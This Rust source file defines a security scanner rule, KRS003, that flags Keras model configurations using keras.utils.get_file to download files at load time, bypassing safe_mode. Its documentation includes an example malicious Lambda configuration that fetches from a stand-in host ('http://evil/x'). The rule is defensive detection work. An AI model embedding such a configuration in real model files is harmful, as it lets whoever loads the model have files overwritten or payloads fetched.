//! ## What it does
//! Flags configurations that call `keras.utils.get_file` (or
//! `tf.keras.utils.get_file`) — as a `Lambda` function, a named function, or in
//! a lambda's bytecode — and shows the `origin` URL and target file name.
//!
//! ## Why is this bad?
//! `get_file` downloads a URL to a chosen path when the model is loaded: it can
//! overwrite files (e.g. `~/.ssh/authorized_keys`, shell start-up files) and
//! fetch further payloads, and it lives inside the Keras namespace, so
//! `safe_mode` does not stop it (CVE-2025-8747).
//!
//! ## Example
//! ```text
//! {"class_name": "Lambda", "config": {"function": {"module": "keras.utils", "class_name": "function",
//!   "config": "get_file"}, "arguments": {"origin": "http://evil/x", "fname": "/tmp/x"}}}
//! ```
//!
//! ## References
//! - CVE-2025-8747 / CVE-2025-9906 (Keras safe_mode bypass through get_file)
//! - https://keras.io/api/utils/python_utils/#getfile-function
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "KRS003",
    name: "keras-remote-download",
    severity: Severity::Critical,
    summary: "the configuration makes Keras download files (keras.utils.get_file) while loading",
    path: "keras/remote_download",
};
